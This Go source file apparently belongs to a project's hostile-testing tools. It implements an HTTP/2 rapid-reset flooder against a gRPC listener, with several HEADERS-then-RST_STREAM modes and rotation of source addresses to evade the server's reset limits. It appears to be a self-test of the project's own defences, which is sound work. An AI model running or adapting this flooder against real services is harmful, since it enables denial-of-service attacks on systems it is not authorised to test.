// Command h2f13b tries to evade the early-reset (rapid reset) rule of the
// gRPC listener (the thirteenth hostile pass, half B). Each of -conns loops
// dials from a source address taken in turn from -srcs (a range such as
// 127.0.0.2-127.0.0.250: each address is a separate peer), sends -per calls
// on the connection as -mode says, closes it and, with -reconnect, opens
// another until -hold. Modes:
//
//	rst      HEADERS then RST_STREAM(CANCEL)
//	mix      -real complete calls (empty message, END_STREAM) per reset
//	partial  HEADERS, DATA with the start of a message (no END_STREAM), RST
//	fullopen HEADERS, DATA with a whole empty message but no END_STREAM, RST
//	msgrst   HEADERS, the whole message with END_STREAM, then RST_STREAM at
//	         once (the call's work started, its client gone)
//	real     complete calls only (no reset): the baseline flood
//	hs       no call: the HTTP/2 handshake, then close (with -reconnect)
//	one      a single call: -hdr extra headers, -cflag flag byte, -msg body;
//	         prints the status it gets (edge cases of the gRPC framing)
//
// It prints the streams sent and how connections ended.
package main

import (
	"bytes"
	"flag"
	"fmt"
	"net"
	"net/netip"
	"os"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/classifierd/classifierd/tools/hostile/internal/probe"
)

var (
	addr  = flag.String("addr", "127.0.0.1:50051", "gRPC listener: HOST:PORT or unix:///path")
	mode  = flag.String("mode", "rst", "rst, mix, partial, fullopen")
	path  = flag.String("path", "/grpc.health.v1.Health/Check", "method path")
	token = flag.String("token", "", "bearer token")
	conns = flag.Int("conns", 4, "connection loops")
	hold  = flag.Duration("hold", 10*time.Second, "how long")
	again = flag.Bool("reconnect", false, "open another connection when one ends, until -hold")
	per   = flag.Int("per", 0, "close the connection after this many resets (0: never)")
	real  = flag.Int("real", 1, "mix: complete calls per reset")
	srcs  = flag.String("srcs", "", "source addresses: one, or a range a.b.c.d-a.b.c.e (empty: any)")
	msg   = flag.String("msg", "", "hex of the message body sent by mix/fullopen/real (default empty)")
	pace  = flag.Duration("pace", 0, "pause after each reset (or real call)")
	cflag = flag.Int("cflag", 0, "one: the message's compressed-flag byte")
	extra = flag.String("hdr", "", "one: extra header fields, name=value;name=value")
)

var (
	answers   probe.Tally
	sentTotal atomic.Int64
	connTotal atomic.Int64
	srcList   []netip.Addr
	srcNext   atomic.Int64
)

func count(k string) { answers.Count(k) }

func parseSrcs(s string) []netip.Addr {
	if s == "" {
		return nil
	}
	a, b, ok := strings.Cut(s, "-")
	from := netip.MustParseAddr(a)
	if !ok {
		return []netip.Addr{from}
	}
	to := netip.MustParseAddr(b)
	var out []netip.Addr
	for x := from; x.Compare(to) <= 0; x = x.Next() {
		out = append(out, x)
	}
	return out
}

func main() {
	flag.Parse()
	srcList = parseSrcs(*srcs)
	var wg sync.WaitGroup
	start := time.Now()
	for range *conns {
		wg.Go(func() {
			end := time.Now().Add(*hold)
			for {
				if err := run(end); err != nil {
					count("conn end: " + clip(err.Error()))
				}
				if !*again || time.Now().After(end) {
					return
				}
			}
		})
	}
	wg.Wait()
	el := time.Since(start).Seconds()
	fmt.Printf("%10d  resets sent, %.0f/s; %d connections, %.0f/s; %d sources\n", sentTotal.Load(), float64(sentTotal.Load())/el, connTotal.Load(), float64(connTotal.Load())/el, max(1, len(srcList)))
	answers.Print(os.Stdout, 10)
}

func clip(s string) string {
	if i := strings.LastIndex(s, ": "); i >= 0 && strings.Contains(s, "127.0.0.") {
		s = s[i+2:]
	}
	if len(s) > 70 {
		return s[:70]
	}
	return s
}

func dial() (net.Conn, error) {
	d := net.Dialer{Timeout: 3 * time.Second}
	if path, ok := strings.CutPrefix(*addr, "unix://"); ok {
		return d.Dial("unix", path)
	}
	if len(srcList) > 0 {
		a := srcList[int(srcNext.Add(1)-1)%len(srcList)]
		d.LocalAddr = &net.TCPAddr{IP: a.AsSlice()}
	}
	return d.Dial("tcp", *addr)
}

func run(stop time.Time) error {
	nc, err := dial()
	if err != nil {
		return err
	}
	connTotal.Add(1)
	defer nc.Close()
	_ = nc.SetDeadline(stop.Add(3 * time.Second))
	fr, err := probe.Start(nc, 65536, probe.BigWindow)
	if err != nil {
		return err
	}
	var wmu sync.Mutex
	done := make(chan struct{})
	go func() {
		defer close(done)
		err := probe.ReadLoop(fr, &wmu, false, func(f http2.Frame) {
			switch f := f.(type) {
			case *http2.MetaHeadersFrame:
				for _, h := range f.Fields {
					if h.Name == "grpc-status" {
						m := ""
						for _, g := range f.Fields {
							if g.Name == "grpc-message" {
								m = clip(g.Value)
							}
						}
						count("grpc-status=" + h.Value + " " + m)
					}
				}
			case *http2.GoAwayFrame:
				count("goaway " + f.ErrCode.String() + " " + clip(string(f.DebugData())))
			}
		})
		count("read end: " + clip(err.Error()))
	}()
	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	hdrs := func() []byte {
		fs := append(probe.Head("POST", "http", *path, *addr, "application/grpc"), probe.Bearer(*token)...)
		if *extra != "" {
			for _, kv := range strings.Split(*extra, ";") {
				k, v, _ := strings.Cut(kv, "=")
				fs = append(fs, hpack.HeaderField{Name: k, Value: v})
			}
		}
		return probe.Block(enc, &hb, fs)
	}
	body := []byte{}
	if *msg != "" {
		for i := 0; i+1 < len(*msg); i += 2 {
			var b byte
			fmt.Sscanf((*msg)[i:i+2], "%02x", &b)
			body = append(body, b)
		}
	}
	whole := append([]byte{0, byte(len(body) >> 24), byte(len(body) >> 16), byte(len(body) >> 8), byte(len(body))}, body...)
	ended := func() bool {
		select {
		case <-done:
			return true
		default:
			return time.Now().After(stop)
		}
	}
	id := uint32(1)
	var sent int64
	defer func() { sentTotal.Add(sent) }()
	if *mode == "one" {
		whole[0] = byte(*cflag)
		wmu.Lock()
		err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: hdrs(), EndHeaders: true})
		if err == nil {
			err = fr.WriteData(1, true, whole)
		}
		wmu.Unlock()
		if err != nil {
			return err
		}
		select {
		case <-done:
		case <-time.After(3 * time.Second):
			count("no end in 3 s")
		}
		return nil
	}
	if *mode == "hs" {
		wmu.Lock()
		_ = fr.WriteSettingsAck()
		wmu.Unlock()
		if *pace > 0 {
			time.Sleep(*pace)
		}
		return nil
	}
	for !ended() {
		wmu.Lock()
		err := func() error {
			if *mode == "real" {
				if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hdrs(), EndHeaders: true}); err != nil {
					return err
				}
				return fr.WriteData(id, true, whole)
			}
			if *mode == "mix" {
				for range *real {
					if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hdrs(), EndHeaders: true}); err != nil {
						return err
					}
					if err := fr.WriteData(id, true, whole); err != nil {
						return err
					}
					id += 2
				}
			}
			if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hdrs(), EndHeaders: true}); err != nil {
				return err
			}
			switch *mode {
			case "partial":
				if err := fr.WriteData(id, false, []byte{0, 0, 0, 0, 100, 0x0a, 0x02}); err != nil {
					return err
				}
			case "fullopen":
				if err := fr.WriteData(id, false, whole); err != nil {
					return err
				}
			case "msgrst":
				if err := fr.WriteData(id, true, whole); err != nil {
					return err
				}
			}
			return fr.WriteRSTStream(id, http2.ErrCodeCancel)
		}()
		wmu.Unlock()
		if err != nil {
			return err
		}
		id += 2
		sent++
		if *per > 0 && sent >= int64(*per) {
			return nil
		}
		if *pace > 0 {
			time.Sleep(*pace)
		}
	}
	return nil
}
